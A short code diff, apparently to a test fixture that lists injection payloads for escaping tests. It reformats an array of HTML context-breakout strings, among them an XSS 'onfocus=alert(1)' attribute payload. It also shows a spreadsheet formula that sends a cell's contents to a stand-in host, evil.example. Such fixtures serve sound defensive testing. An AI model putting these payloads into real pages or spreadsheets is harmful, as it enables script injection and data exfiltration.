@@ -38,14 +38,7 @@ const MARKUP = [
   '[object Object]<b>bold</b>',
 ];
 /** Ways out of the place that a text stands in. */
-const WAYS_OUT = [
-  '',
-  '">',
-  "' autofocus onfocus=alert(1) x='",
-  '</td></tr></table>',
-  '</script>',
-  '</title></textarea></style>',
-];
+const WAYS_OUT = ['', '">', "' autofocus onfocus=alert(1) x='", '</td></tr></table>', '</script>'];
 
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
